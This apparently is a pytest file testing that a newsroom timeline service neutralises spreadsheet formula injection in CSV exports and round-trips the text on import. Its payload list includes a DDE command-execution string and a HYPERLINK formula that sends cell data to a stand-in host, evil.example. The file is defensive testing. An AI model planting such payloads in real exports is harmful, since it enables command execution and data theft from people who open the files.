"""CSV injection (OWASP): no text cell of the CSV export starts with a character a spreadsheet runs as
a formula, and the CSV import gives back exactly the text that was exported."""

from __future__ import annotations

import csv
import io

import pytest

from service.exports import table
from tests.conftest import create_key

PAYLOADS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "-5",
    "'=1+1",  # an apostrophe a writer typed before a formula character: kept
    "''@x",
    "'plain",  # an apostrophe before anything else: left alone
    "=",
    "-",
    "+",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TRIMMED = {"location", "caption", "credit", "alt_text", "source_title", "publisher"}  # by the import


@pytest.mark.parametrize("text", [*PAYLOADS, "plain", "", "a=b", " =1"])
def test_a_neutral_cell_is_restored_exactly(text):
    cell = table.neutral_cell(text)
    assert not cell.startswith(TRIGGERS)
    assert table.restore_cell(cell) == text


def _fields(event: dict) -> dict:
    """The text an export row carries and an import reads back, event and citation alike."""
    c = event["citations"][0]
    return {
        "title": event["title"],
        "summary": event["summary"],
        "location": event["location"]["name"],
        "caption": event["media"]["caption"],
        "credit": event["media"]["credit"],
        "alt_text": event["media"]["alt_text"],
        "quote": c["quote"],
        "locator": c["locator"],
        "note": c["note"],
        "source_title": c["source"]["title"],
        "publisher": c["source"]["publisher"],
        "authors": c["source"]["authors"],
    }


def _event(i: int, text: str) -> dict:
    title = text if text.strip() else f"x{text}"
    return {
        "title": title,
        "summary": text,
        "date": f"{1901 + i}",
        "location": {"name": title},
        "media": {
            "url": f"https://example.com/csv-{i}.jpg",
            "caption": text,
            "credit": text,
            "alt_text": text,
        },
        "citations": [
            {
                "quote": title,
                "locator": text,
                "note": text,
                "source": {
                    "url": f"https://example.com/csv-{i}",
                    "title": title,
                    "publisher": text,
                    "authors": [title, "B"],
                },
            }
        ],
    }


def test_formulas_are_neutral_in_the_export_and_round_trip_through_the_import(client, db_url):
    ids = []
    for i, text in enumerate(PAYLOADS):
        response = client.post("/v1/events", json=_event(i, text))
        assert response.status_code == 201, response.text
        ids.append(response.json()["id"])
    timeline = {"slug": "formulas", "title": "Formulas", "include": ids}
    assert client.post("/v1/timelines", json=timeline).status_code == 201
    exported = client.get("/v1/timelines/formulas/export/csv")
    assert exported.status_code == 200, exported.text
    rows = list(csv.reader(io.StringIO(exported.text, newline="")))
    dangerous = [
        (r, n, cell) for r, row in enumerate(rows) for n, cell in enumerate(row) if cell.startswith(TRIGGERS)
    ]
    assert not dangerous, dangerous
    assert len(rows) == len(PAYLOADS) + 1
    # the draft timeline's CSV is its newsroom's only; another newsroom imports the file as its own events
    other = {"authorization": f"Bearer {create_key(db_url, 'rival', 'admin')}"}
    assert client.get("/v1/timelines/formulas/export/csv", headers={"authorization": ""}).status_code == 404
    assert client.get("/v1/timelines/formulas/export/csv", headers=other).status_code == 404
    before = {e["date"]: _fields(e) for e in (client.get(f"/v1/events/{i}").json() for i in ids)}
    as_csv = {"content-type": "text/csv", **other}
    response = client.post("/v1/import", content=exported.content, headers=as_csv)
    assert response.status_code == 201, response.text
    assert response.json()["created"]["events"] == len(PAYLOADS)
    mine = client.get("/v1/events", params={"status": "draft", "limit": 100}, headers=other).json()["items"]
    after = {e["date"]: _fields(client.get(f"/v1/events/{e['id']}", headers=other).json()) for e in mine}
    for date, fields in before.items():
        # the import trims the location, media and source columns (as it always has): compare them trimmed;
        # a source cited by a URL known already may be that source, as it was written
        got = {k: v.strip() if k in TRIMMED else v for k, v in after[date].items()}
        got["authors"] = [a.strip() for a in got["authors"]]
        expected = {k: v.strip() if k in TRIMMED else v for k, v in fields.items()}
        expected["authors"] = [a.strip() for a in fields["authors"]]
        assert got == expected, date
